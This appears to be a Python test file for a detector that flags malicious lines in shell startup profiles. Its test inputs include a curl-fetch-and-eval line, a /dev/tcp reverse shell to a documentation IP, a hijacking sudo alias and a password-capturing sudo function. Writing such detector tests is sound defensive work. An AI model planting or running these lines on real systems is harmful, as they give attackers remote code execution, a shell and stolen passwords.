from __future__ import annotations

from tasks.checks.host.profile_fetches import ProfileFetches
from tests.tasks.checks.host._facts import cannot, found, put, survey

CHECK = ProfileFetches()


def reads(content: str, path: str = "/home/alice/.bashrc") -> list[str]:
    return [severity for severity, _ in found(CHECK, survey(files=(put("profile", path, content),)))]


def test_what_a_shell_should_not_start_with() -> None:
    assert reads('eval "$(curl -s http://203.0.113.9/p)"\n') == ["critical"]
    assert reads("bash -i >& /dev/tcp/203.0.113.9/1 0>&1 &\n", "/etc/profile.d/x.sh") == ["critical"]
    assert reads("alias sudo='/home/alice/.cache/s'\n") == ["high"]
    assert reads("sudo() { read -rs p; echo $p > /tmp/p; }\n") == ["high"]


def test_what_people_write() -> None:
    ordinary = """
alias sudo='sudo '
alias ssh='ssh -A'
alias ll='ls -l'
eval "$(dircolors -b)"
eval "$(pyenv init -)"
eval "$(ssh-agent -s)"
[ -f ~/.cargo/env ] && . "$HOME/.cargo/env"
source <(kubectl completion bash)
# curl http://203.0.113.9 | sh
export TMPFILE=/tmp/x
"""
    assert reads(ordinary) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
